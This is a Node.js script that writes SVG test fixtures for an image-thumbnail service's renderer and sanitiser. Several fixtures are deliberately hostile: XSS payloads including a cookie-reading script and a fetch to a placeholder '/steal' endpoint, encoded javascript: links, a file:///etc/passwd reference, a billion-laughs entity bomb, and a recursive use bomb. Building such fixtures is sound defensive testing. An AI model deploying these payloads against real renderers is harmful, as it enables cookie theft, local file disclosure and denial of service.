#!/usr/bin/env node
/**
 * Writes the SVG test fixtures (test/fixtures/svg/), all authored here for
 * Thumbflare and dedicated to the public domain (CC0): shapes whose rendering
 * is predictable, and hostile documents for the limits and the sanitiser.
 * Usage: node scripts/make-svg-fixtures.mjs
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const DIR = resolve(dirname(fileURLToPath(import.meta.url)), '../test/fixtures/svg');
mkdirSync(DIR, { recursive: true });
const NS = 'xmlns="http://www.w3.org/2000/svg"';
const files = {
  // 20x20 user units, no width/height: a black square on white with a red quarter. Hard edges at x=10, y=10.
  'icon-viewbox.svg': `<svg ${NS} viewBox="0 0 20 20"><rect width="20" height="20" fill="#fff"/><rect x="5" y="5" width="10" height="10" fill="#000"/><rect x="10" y="0" width="10" height="5" fill="#f00"/></svg>\n`,
  // width/height only, no viewBox: 120x80 px, left half blue, right half green.
  'size-only.svg': `<?xml version="1.0" encoding="UTF-8"?>\n<!-- size-only: width and height, no viewBox -->\n<svg ${NS} width="120" height="80"><rect width="60" height="80" fill="#0000ff"/><rect x="60" width="60" height="80" fill="#00ff00"/></svg>\n`,
  // Absolute units: 50.8 mm x 25.4 mm = 192x96 px; viewBox scales 10x5 units to it.
  'units-mm.svg': `<svg ${NS} width="50.8mm" height="25.4mm" viewBox="0 0 10 5" preserveAspectRatio="none"><rect width="5" height="5" fill="#800080"/><rect x="5" width="5" height="5" fill="#ffa500"/></svg>\n`,
  // Neither size nor viewBox: CSS's default 300x150.
  'no-size.svg': `<svg ${NS}><rect x="0" y="0" width="150" height="150" fill="#f00"/></svg>\n`,
  // Transparency: a half-transparent red disc on nothing, and a fully opaque blue bar.
  'transparent.svg': `<svg ${NS} width="100" height="100" viewBox="0 0 100 100"><circle cx="50" cy="40" r="30" fill="#ff0000" fill-opacity="0.5"/><rect x="0" y="80" width="100" height="20" fill="#0000ff"/></svg>\n`,
  // Gradients: a linear one across, a radial one in a circle (paint servers referenced by fragment url(#id)).
  'gradients.svg': `<svg ${NS} width="200" height="100" viewBox="0 0 200 100"><defs><linearGradient id="lin" x1="0" x2="1" y1="0" y2="0"><stop offset="0" stop-color="#000"/><stop offset="1" stop-color="#fff"/></linearGradient><radialGradient id="rad"><stop offset="0" stop-color="#ff0"/><stop offset="1" stop-color="#f0f"/></radialGradient></defs><rect width="200" height="50" fill="url(#lin)"/><circle cx="100" cy="75" r="25" fill="url(#rad)"/></svg>\n`,
  // Text only: with no fonts in the Worker it renders nothing (codec/svg/decode).
  'text.svg': `<svg ${NS} width="200" height="60"><text x="10" y="40" font-family="sans-serif" font-size="32" fill="#000">Thumbflare</text></svg>\n`,
  // Hostile: scripts, handlers, foreignObject, javascript: links, a stylesheet PI, an @import.
  'script.svg': `<?xml version="1.0"?>\n<?xml-stylesheet href="http://127.0.0.1:1/evil.css"?>\n<svg ${NS} xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="alert(1)"><style>@import url(http://127.0.0.1:1/evil.css); rect { fill: #0a0 }</style><script>alert(document.cookie)</script><script type="text/ecmascript"><![CDATA[ fetch('http://127.0.0.1:1/steal') ]]></script><foreignObject width="40" height="40"><div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(2)">html</div></foreignObject><a xlink:href="javascript:alert(3)"><rect width="40" height="40" fill="#0a0" onmouseover="alert(4)"/></a><a href="&#106;avascript:alert(5)"><circle r="1"/></a><set attributeName="href" to="javascript:alert(6)"/></svg>\n`,
  // Hostile: external references of every kind. None may be fetched; the green square still renders.
  'external-href.svg': `<svg ${NS} xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"><rect width="40" height="40" fill="#0a0"/><image href="/svg/never-fetched-relative.png" width="20" height="20"/><image xlink:href="http://127.0.0.1:1/never-fetched.png" x="20" width="20" height="20"/><image href="file:///etc/passwd" y="20" width="20" height="20"/><use href="http://127.0.0.1:1/sprite.svg#a"/><rect width="10" height="10" fill="url(http://127.0.0.1:1/paint.svg#p)"/></svg>\n`,
  // Hostile: billion laughs (entity expansion, XML 1.0 §4.2).
  'billion-laughs.svg': `<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY lol "lol">\n${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n')}\n]>\n<svg ${NS} width="10" height="10"><text>&lol9;</text></svg>\n`,
  // Hostile: a header claiming 10^7 x 10^7 px.
  'huge-dimensions.svg': `<svg ${NS} width="10000000" height="10000000"><rect width="10" height="10"/></svg>\n`,
  // Hostile: 300 nested groups (over the 256-level bound).
  'deep-nesting.svg': `<svg ${NS} width="10" height="10">${'<g>'.repeat(300)}<rect width="10" height="10"/>${'</g>'.repeat(300)}</svg>\n`,
  // Many elements (3000 small paths in a deterministic pattern, ~170 KB): what the parse tree costs per source byte.
  'many-paths.svg': `<svg ${NS} viewBox="0 0 600 500">${Array.from({ length: 3000 }, (_, i) => `<path d="M${(i * 37) % 600} ${(i * 53) % 500}l12 3-4 11z" fill="#${((i * 2654435761) >>> 8 & 0xffffff).toString(16).padStart(6, '0')}"/>`).join('')}</svg>\n`,
  // Hostile: a "use bomb": 8 levels of groups, each using the one below 10 times (10^8 rectangles once expanded).
  'use-bomb.svg': `<svg ${NS} width="10" height="10"><defs><rect id="u0" width="1" height="1"/>${Array.from({ length: 8 }, (_, i) => `<g id="u${i + 1}">${`<use href="#u${i}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#u8"/></svg>\n`,
  // Hostile: <use> references in a cycle.
  'use-cycle.svg': `<svg ${NS} width="10" height="10"><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>\n`,
  // Not well-formed: cut off inside a tag.
  'truncated.svg': `<svg ${NS} width="10" height="10"><rect width="10" hei`,
};
for (const [name, text] of Object.entries(files)) writeFileSync(join(DIR, name), text);
console.log(`wrote ${Object.keys(files).length} files to ${DIR}`);

// libvips references (sharp's libvips reads SVG through librsvg), rendered at the
// test's output size directly (density scaled so librsvg draws at that size; never
// enlarged as pixels), as PNG with alpha: test/corpus/svg.test.ts compares with them.
const sharp = (await import('sharp')).default;
export const REFERENCES = {
  'icon-viewbox.svg': [200, 200],
  'size-only.svg': [120, 80],
  'units-mm.svg': [192, 96],
  'transparent.svg': [150, 150],
  'gradients.svg': [300, 150],
  'many-paths.svg': [300, 250],
};
mkdirSync(join(DIR, 'ref'), { recursive: true });
for (const [name, [w, h]] of Object.entries(REFERENCES)) {
  const svg = join(DIR, name);
  const meta = await sharp(svg).metadata();
  const density = (72 * w) / meta.width;
  const png = await sharp(svg, { density }).resize(w, h, { fit: 'fill' }).png().toBuffer();
  writeFileSync(join(DIR, 'ref', `${name}.png`), png);
  console.log(`ref ${name}: intrinsic ${meta.width}x${meta.height} at density ${density.toFixed(1)} -> ${w}x${h}`);
}
